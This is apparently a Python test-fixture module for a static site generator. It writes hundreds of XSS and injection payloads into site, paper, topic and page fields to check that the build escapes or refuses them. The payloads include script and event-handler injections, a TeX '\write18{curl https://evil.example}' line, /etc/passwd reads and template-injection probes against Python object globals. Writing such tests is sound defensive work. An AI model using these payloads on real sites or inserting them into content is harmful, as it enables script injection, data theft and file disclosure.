r"""Attacks: texts that would run script, load something, or break out of where they stand.

Responsible for the inputs and for the digest that holds each of them in every field. Not
responsible for the checks. Whatever of it runs calls `alert`, which the tests watch; whatever
becomes an element asks `evil.example` for something.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

from broadsheet.domain.records import Body
from broadsheet.foundations.diagnostics import Severity
from broadsheet.planning.texts import MarkupOptions, TextJob
from broadsheet.workers.bodies import ConvertedBody, convert_body

RUN = "alert(1)"
AWAY = "https://evil.example"

SCRIPT = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script src={AWAY}/x.js></script>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script/x>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title><script>{RUN}</script>",
    f"</textarea></template></noscript></style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    f"<template><script>{RUN}</script></template>",
    f"<script type=module>import('{AWAY}/x.js')</script>",
    f"<plaintext><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"＜script＞{RUN}＜/script＞",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x: onerror={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=`x` onerror=`{RUN}`>",
    f"<image src=x onerror={RUN}>",
    f"<img src={AWAY}/x.png>",
    f"<img srcset='{AWAY}/y.png 1x'>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<video poster={AWAY}/p.png></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onmouseover={RUN} style=position:fixed;inset:0>x</div>",
    f"<a onclick={RUN} href=#>x</a>",
    f"<p onpointerenter='{RUN}'>x</p>",
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'x" autofocus onfocus={RUN} y="',
    f"<b onanimationstart={RUN} style='animation:x 1s'>x</b>",
    f"<select onfocus={RUN} autofocus><option>x</select>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{RUN}</script></svg>#x'/></svg>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
)
ELEMENTS = (
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={AWAY}/></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data={AWAY}/x></object>",
    f"<embed src={AWAY}/x.swf>",
    f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<link rel=prefetch href={AWAY}/x>",
    f"<style>@import '{AWAY}/x.css'; body {{ display: none }}</style>",
    f"<form action={AWAY}/><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN}>",
    "<div id=getElementById name=body>clobber</div>",
    "<form name=head><input name=appendChild></form>",
    f"<frameset onload={RUN}><frame src={AWAY}/></frameset>",
    f"<table background={AWAY}/x.png><td background={AWAY}/y.png>x</table>",
    f"<portal src={AWAY}/></portal>",
    f"<dialog open>x</dialog><object type=text/html data={AWAY}/></object>",
)
MATHML = (
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></math>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href=javascript:{RUN}><mi>x</mi></math>",
    f"<math><maction actiontype=statusline href=javascript:{RUN}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math><semantics><annotation-xml encoding='text/html'><script>{RUN}</script></semantics>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"$\\text{{<script>{RUN}</script>}}$",
    f"$x + \\text{{<img src=x onerror={RUN}>}}$",
    f"$x + \\mathrm{{<svg onload={RUN}>}}$",
    f"$\\href{{javascript:{RUN}}}{{x}} + y$",
    f"$\\url{{javascript:{RUN}}}$",
    f"$\\unicode{{x3C}}script\\unicode{{x3E}}{RUN}$",
    f'$\\class{{x" onclick="{RUN}}}{{y}}$',
    f"$\\style{{background:url({AWAY}/x)}}{{y}}$",
    f'$x" onmouseover="{RUN}$',
    f'$\\nosuch{{"><img src=x onerror={RUN}>}}$',
    f"$\\includegraphics{{{AWAY}/x.png}} + 1$",
    f'$\\htmlData{{x=" onclick="{RUN}}}{{y}} \\cssId{{a}}{{b}}$',
    f"$\\require{{html}} \\href{{data:text/html,<script>{RUN}</script>}}{{x}}$",
    f"$$\\text{{</math><script>{RUN}</script>}}$$",
    f'\\(x + \\text{{"><svg/onload={RUN}>}}\\)',
    f'$\\eqref{{x"><img src=x onerror={RUN}>}}$',
    f"$\\textbf{{<b onclick={RUN}>}}x$",
)
TEX = (
    f"\\href{{javascript:{RUN}}}{{words}}",
    f"\\href{{JaVaScRiPt:{RUN}}}{{words}}",
    f"\\href{{ javascript:{RUN}}}{{words}}",
    f"\\href{{java\\%0ascript:{RUN}}}{{words}}",
    f"\\href{{data:text/html,<script>{RUN}</script>}}{{words}}",
    f'\\href{{https://a.example/" onclick="{RUN}}}{{words}}',
    f"\\href{{https://a.example/'onclick='{RUN}}}{{words}}",
    "\\href{//evil.example/}{words}",
    f"\\url{{javascript:{RUN}}}",
    f"\\url{{vbscript:{RUN}}}",
    f'https://a.example/"onmouseover="{RUN}',
    f"https://a.example/<script>{RUN}</script>",
    f"\\textbf{{<script>{RUN}</script>}}",
    f"\\verb|<script>{RUN}</script>|",
    f"{{\\tt <img src=x onerror={RUN}>}}",
    "\\write18{curl https://evil.example}",
    "\\input{/etc/passwd} \\openin5=/etc/passwd",
    f"\\char60script\\char62{RUN}",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{# a comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ site.title|safe }}{% include '/etc/passwd' %}",
    "{{constructor.constructor('alert(1)')()}}",
)
SPLITS = (
    f"<!-- --><script>{RUN}</script><!-- -->",
    f"<!--><script>{RUN}</script>-->",
    f'<!--<img src="--><img src=x onerror={RUN}>">',
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version=1?><script>{RUN}</script>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;",
    f"<a title='`'>`<img src=x onerror={RUN}>`</a>",
    f"<style><!--</style><script>{RUN}</script>-->",
    f'<div title="<!--">--><script>{RUN}</script>',
)
ENTITIES = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"&#0;<script>{RUN}</script>",
    f"&lt;img src=x onerror=&quot;{RUN}&quot;&gt;",
    f"&bogus;&#x110000;&#xD800;<script>{RUN}</script>",
)
TOKENS = (
    "\ue000\ue0010123456789abcdefx0\ue002",
    "&#xE000;&#xE001;0123456789abcdefx0&#xE002; $x$",
    f'\ue001"><script>{RUN}</script>\ue002',
    f"&#57344;javascript:{RUN}",
    "\x02klzzwxh:0001\x03 $x$",
    "klzzwxh:0000 wzxhzdk:0 zz1234",
    f'\ue000" onmouseover="{RUN}',
)
CONTROLS = (
    f"<scr\u00adipt>{RUN}</script>",
    f"<\u200bscript>{RUN}</script>",
    f"\u202e>tpircs/<(1)trela>tpircs<\u202c <script>{RUN}</script>",
    f"<img\u00a0src=x\u2028onerror={RUN}>",
    f"\ufeff<script>{RUN}</script>",
    f"<script\u2029>{RUN}</script>",
    f"<scr\x00ipt>{RUN}</script>",
    f"\x08\x1b[31m<img\x0csrc=x\x0bonerror={RUN}>\x7f\x9b",
)
FIELD_ATTACKS = (
    *SCRIPT,
    *HANDLERS,
    *ELEMENTS,
    *MATHML,
    *TEX,
    *TEMPLATES,
    *SPLITS,
    *ENTITIES,
    *TOKENS,
    *CONTROLS,
)

# Bodies that name an address which is not allowed: the build refuses each.
REFUSED_BODIES = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x]( javascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](java&#x09;script:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&#58;{RUN})",
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![x](javascript:{RUN})",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"![x]({AWAY}/x.png)",
    "![x](//evil.example/x.png)",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href=' &#14; javascript:{RUN}'>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f'<a href="jav&#x0A;ascript:{RUN}">x</a>',
    "<a href='\\\\evil.example\\x'>x</a>",
    f"<img src='{AWAY}/x.png' onerror={RUN}>",
    f'[x]($\\text{{a}}$ "onclick={RUN}")',
    "[x](file:///etc/passwd)",
    "[x](../../../../etc/passwd)",
    "[x](https://user:pass@evil.example/)",
)
# Bodies that are taken, beside everything that is tried in fields.
BODIES = (
    f"<javascript:{RUN}> and words",
    f'[x](https://a.example/ "$\\text{{a\' onmouseover={RUN} x}}$")',
    f"[x](https://a.example/ '\" onmouseover=\"{RUN}')",
    f'*[ABC]: $\\text{{" onclick="{RUN}}}$\n\nABC',
    f'*[XSS]: " onmouseover="{RUN}\n\nXSS',
    f'[^" onclick={RUN}]\n\n[^" onclick={RUN}]: note',
    f"```html\n<script>{RUN}</script>\n```",
    f'```" onclick={RUN}\n<script>{RUN}</script>\n```',
    f"```python onclick={RUN}\nx\n```",
    f"    <script>{RUN}</script>",
    f"`<script>{RUN}</script>`",
    f'# <script>{RUN}</script>\n\n## " onclick={RUN} $x$',
    f"| <script>{RUN}</script> | $\\text{{<img src=x onerror={RUN}>}}$ |\n|--|--|\n| \" | ' |",
    f"> <script>{RUN}</script>\n\n- <img src=x onerror={RUN}>",
    f"<div>\n\n<script>{RUN}</script>\n\n</div>",
    f"<pre><code class='language-x\" onclick=\"{RUN}'><script>{RUN}</script></code></pre>",
    f"$\\text{{</span></math><script>{RUN}</script>}}$",
    f"<b title='$x$' onclick={RUN}>$y$</b>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math> $x$",
    f'[[nothing" onclick="{RUN}|<script>{RUN}</script>]]'.replace("[[", "\\[["),
    f'<https://a.example/"onmouseover="{RUN}>',
    "<a id=s-x name=s-x>x</a> <p id=main>y</p>",
    f"a  \n<br onclick={RUN}>\n\n<hr onload={RUN}>",
)
BODY_ATTACKS = (*FIELD_ATTACKS, *BODIES)
ALL_ATTACKS = (*FIELD_ATTACKS, *BODIES, *REFUSED_BODIES)

_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufeff]")

FIRST_DAY = date(2025, 1, 1)
GROUP = 6


def write_attacked_digest(root: Path) -> None:
    """Write a digest that holds every attack in every field, and in bodies all that are taken.

    Args:
        root: The folder that is to hold `content/`.
    """
    content = root / "content"
    settings = {
        "title": FIELD_ATTACKS[0],
        "tagline": FIELD_ATTACKS[1],
        "base_url": "https://a.example/",
        # Names that are one attack stand on its paper's page; those of a group have their own.
        "authors": {"min_papers": 2},
    }
    _write(content / "site.yaml", settings)
    (content / "static").mkdir()
    (content / "static" / "x").write_bytes(b"no image, so that a handler for errors would run")
    for number, attack in enumerate(BODY_ATTACKS):
        body = attack if is_taken(attack) else ""
        _write(content / "papers" / f"p{number:03}.md", _paper(number, as_line(attack)), body)
    for number, attacks in enumerate(group_attacks(BODY_ATTACKS)):
        words = as_line(" ".join(attacks))
        body = "\n\n".join(filter(is_taken, attacks))
        day = FIRST_DAY + timedelta(days=number)
        topic = {"name": as_line(f"T{number} {attacks[0]}"), "description": words}
        _write(content / "topics" / f"t{number}.md", topic, body)
        digest = {"title": words, "curator": words}
        _write(content / "digests" / f"{day}.md", digest, body)
        page = {"title": as_line(attacks[-1]), "description": words}
        _write(content / "pages" / f"q{number}.md", page, body)


def is_taken(attack: str) -> bool:
    """Tell whether a body builds: without controls, and with no link that is refused or broken."""
    if _CONTROL.search(attack):
        return False
    body = convert_attack(attack)
    has_errors = any(finding.severity is Severity.ERROR for finding in body.findings)
    return not has_errors and all(address == "x" for address, _ in body.targets)


def convert_attack(attack: str) -> ConvertedBody:
    """Convert an attack as the body of a paper."""
    job = TextJob("content/papers/a.md", body=Body(text=attack))
    return convert_body(MarkupOptions(), job)


def as_line(attack: str) -> str:
    """Return an attack as a field may hold it: one line without refused controls."""
    return " ".join(_CONTROL.sub("", attack).split())


def _paper(number: int, attack: str) -> dict[str, Any]:
    group = number // GROUP
    words = as_line(" ".join(BODY_ATTACKS[group * GROUP : (group + 1) * GROUP]))
    return {
        "title": attack,
        "authors": [{"name": attack, "affiliation": attack}, words],
        "date": str(FIRST_DAY + timedelta(days=group)),
        "featured": str(FIRST_DAY + timedelta(days=group)),
        "topics": [f"t{group}"],
        "tldr": attack,
        "venue": {"name": words, "publisher": attack, "pages": attack},
        "curator": attack,
        "keywords": [attack],
        "status": "corrected",
        "status_note": attack,
        "links": {"code": f"https://code.example/'{number}'onclick='{RUN}'"},
        "abstract": f"{attack}\n\n{attack}",
    }


def group_attacks(attacks: tuple[str, ...]) -> Iterator[tuple[str, ...]]:
    """Yield attacks in groups that share a page."""
    for start in range(0, len(attacks), GROUP):
        yield attacks[start : start + GROUP]


def _write(path: Path, fields: dict[str, Any], body: str = "") -> None:
    """Write a record; each value is JSON, which is YAML."""
    path.parent.mkdir(parents=True, exist_ok=True)
    lines = [f"{name}: {json.dumps(value)}" for name, value in fields.items()]
    if path.suffix == ".md":
        lines = ["---", *lines, "---", body]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
